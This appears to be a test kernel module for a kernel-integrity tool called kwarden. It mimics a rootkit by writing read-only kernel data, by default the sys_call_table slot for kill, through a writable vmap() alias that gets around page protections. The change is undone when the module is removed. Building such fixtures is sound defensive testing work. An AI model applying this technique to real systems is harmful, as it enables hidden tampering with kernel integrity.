// SPDX-License-Identifier: GPL-2.0
/*
 * kw_rootkit_data - TEST MODULE, loaded only inside kwarden's test VMs.
 *
 * Writes read-only kernel data the way rootkits do, through a fresh
 * writable vmap() alias of the page, bypassing the page protections:
 *   what=ptr   put the address of its own hook into the 8-byte slot at
 *              target+offset (default: sys_call_table slot 62, kill)
 *   what=byte  flip one byte at target+offset (rodata, ro_after_init)
 * The original bytes are put back when the module is removed.
 */
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>

#include "kw_test.h"

static char *target = "sys_call_table";
module_param(target, charp, 0444);
static unsigned int offset = 62 * sizeof(void *);
module_param(offset, uint, 0444);
static char *what = "ptr";
module_param(what, charp, 0444);


static u8 *kw_site;
static u8 kw_saved[sizeof(void *)];
static size_t kw_len;

static noinline long kw_hook(void)
{
	return -EPERM;
}

static int kw_write(u8 *dst, const void *src, size_t len)
{
	/* modules live above the kernel image, in vmalloc'ed memory */
	struct page *page = (unsigned long)dst >= MODULES_VADDR ?
			    vmalloc_to_page(dst) :
			    virt_to_page(__va(__pa_symbol(dst)));
	u8 *map;

	if (offset_in_page(dst) + len > PAGE_SIZE)
		return -EINVAL;
	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	memcpy(map + offset_in_page(dst), src, len);
	vunmap(map);
	return 0;
}

static int __init kw_rootkit_init(void)
{
	unsigned long hook = (unsigned long)kw_hook;
	u8 flipped;
	int err;

	kw_site = (u8 *)kw_find(target);
	if (!kw_site)
		return -ENOENT;
	kw_site += offset;
	kw_len = strcmp(what, "byte") ? sizeof(hook) : 1;
	memcpy(kw_saved, kw_site, kw_len);
	flipped = kw_saved[0] ^ 0x20;
	err = kw_write(kw_site, kw_len == 1 ? (void *)&flipped : (void *)&hook,
		       kw_len);
	if (err)
		return err;
	pr_info("kw_rootkit_data: wrote %s+%#x (%s)\n", target, offset, what);
	return 0;
}

static void __exit kw_rootkit_exit(void)
{
	kw_write(kw_site, kw_saved, kw_len);
	pr_info("kw_rootkit_data: restored %s+%#x\n", target, offset);
}

module_init(kw_rootkit_init);
module_exit(kw_rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("kwarden test: read-only data written through an alias");
